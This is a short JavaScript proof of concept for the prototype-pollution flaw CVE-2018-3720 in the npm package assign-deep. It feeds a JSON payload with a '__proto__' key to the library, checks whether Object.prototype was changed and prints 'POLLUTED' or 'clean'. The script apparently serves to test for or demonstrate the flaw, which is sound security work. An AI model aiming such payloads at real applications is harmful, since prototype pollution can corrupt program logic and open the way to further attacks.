// CVE-2018-3720: assign-deep copies "__proto__" onto Object.prototype.
const assignDeep = require('assign-deep');
assignDeep({}, JSON.parse('{"__proto__": {"polluted": "yes"}}'));
console.log({}.polluted === 'yes' ? 'POLLUTED' : 'clean');
